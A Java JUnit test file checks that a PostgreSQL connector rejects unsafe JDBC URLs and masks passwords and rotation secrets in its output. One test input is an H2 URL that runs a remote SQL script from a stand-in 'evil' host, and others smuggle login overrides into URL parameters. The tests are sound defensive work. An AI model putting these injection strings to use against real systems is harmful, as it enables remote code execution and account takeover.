package io.countersign.connector.postgresql;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class PostgresTargetTest {

	@Test
	void shouldRefuseWhenTheUrlIsNotPostgres() {
		assertThatThrownBy(() -> new PostgresTarget("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "u", "p"))
			.isInstanceOf(IllegalArgumentException.class);
	}

	@Test
	void shouldRefuseWhenTheUrlCarriesCredentials() {
		// pgjdbc lets URL parameters override the login we pass, so a password check could log in as someone else.
		assertThatThrownBy(() -> new PostgresTarget("jdbc:postgresql://db/app?ssl=true&User=postgres", "u", "p"))
			.isInstanceOf(IllegalArgumentException.class)
			.hasMessageContaining("user=");
		assertThatThrownBy(() -> new PostgresTarget("jdbc:postgresql://db/app?password=x", "u", "p"))
			.isInstanceOf(IllegalArgumentException.class);
	}

	@Test
	void shouldHideThePasswordWhenPrinted() {
		PostgresTarget target = new PostgresTarget("jdbc:postgresql://db/app", "countersign", "s3cret-value");

		assertThat(target.toString()).contains("countersign").doesNotContain("s3cret-value");
		assertThat(new PostgresTarget("jdbc:postgresql://db/app", "countersign", null).password()).isEmpty();
	}

	@Test
	void shouldHideTheMaterialWhenARotationIsPrinted() {
		String material = "material-value";
		RotatedPassword rotated = new RotatedPassword("svc", material, PostgresRoles.fingerprint(material),
				"SCRAM-SHA-256$4096:c2FsdA==$verifier-value");

		assertThat(rotated.toString()).contains(rotated.fingerprint())
			.doesNotContain("material-value")
			.doesNotContain("verifier-value");
	}

}
